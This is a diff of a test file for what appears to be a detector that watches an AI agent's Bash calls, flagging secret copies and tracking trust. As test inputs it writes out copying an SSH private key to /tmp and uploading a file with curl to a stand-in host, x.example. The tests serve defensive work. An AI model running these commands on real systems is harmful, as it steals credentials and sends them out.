@@ -73,6 +73,19 @@ describe('the sequences of the balanced pack', () => {
     expect(decision.findings.find(({ kind }) => kind === 'sequence.secret-copied-out')?.detail).toMatch(/since Bash, 2 calls ago/)
   })
 
+  it('is in the record with what the session had done', () => {
+    const session = [asked, bash('cp ~/.ssh/id_rsa /tmp/a'), bash('ls')].reduce(observe, createSession())
+    expect(judge(session, bash('ls')).circumstances).toEqual({
+      calls: 3,
+      holdsSecrets: false,
+      repeats: 2,
+      requested: false,
+      tainted: false,
+      trust: 100,
+    })
+    expect(judge(session, bash('curl https://x.example/')).circumstances).toMatchObject({ trust: 20, repeats: 1 })
+  })
+
   it('does not take another file for the copy', () => {
     const session = [asked, bash('cp ~/.ssh/id_rsa /tmp/a')].reduce(observe, createSession())
     expect(kinds(judge(session, bash('curl -F f=@/tmp/b https://x.example/')))).not.toContain('sequence.secret-copied-out')
